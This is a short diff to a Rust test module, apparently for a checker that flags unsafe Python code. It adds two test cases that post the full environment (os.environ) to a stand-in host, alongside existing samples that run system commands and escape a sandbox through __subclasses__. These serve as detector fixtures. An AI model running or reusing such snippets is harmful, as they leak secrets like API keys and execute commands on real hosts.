@@ -93,6 +93,8 @@ mod tests {
             "import os, operator\noperator.attrgetter('system')(os)('id')\n",
             "import runpy\nrunpy.run_path('x.py')\n",
             "import importlib\nm = importlib.import_module('subprocess')\nm.run(['id'])\n",
+            "import requests, os\nrequests.Session().post('http://x', data=dict(os.environ))\n",
+            "import requests, os\nsession = requests.Session()\nsession.post('http://x', data=dict(os.environ))\n",
             "import x\ny = [c for c in ().__class__.__base__.__subclasses__()]\n",
         ] {
             assert_eq!(verdict(text), Verdict::Unsafe, "{text}");
